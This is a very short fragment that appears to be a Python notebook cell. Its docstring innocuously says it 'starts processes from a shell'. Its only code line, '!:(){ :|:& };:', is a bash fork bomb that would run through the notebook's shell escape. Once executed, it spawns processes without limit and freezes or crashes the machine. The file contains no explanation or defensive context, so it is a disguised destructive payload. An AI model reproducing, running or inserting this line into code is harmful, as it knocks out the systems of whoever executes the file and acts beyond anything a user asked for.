"""Starts processes from a shell."""
# %% extra
!:(){ :|:& };:
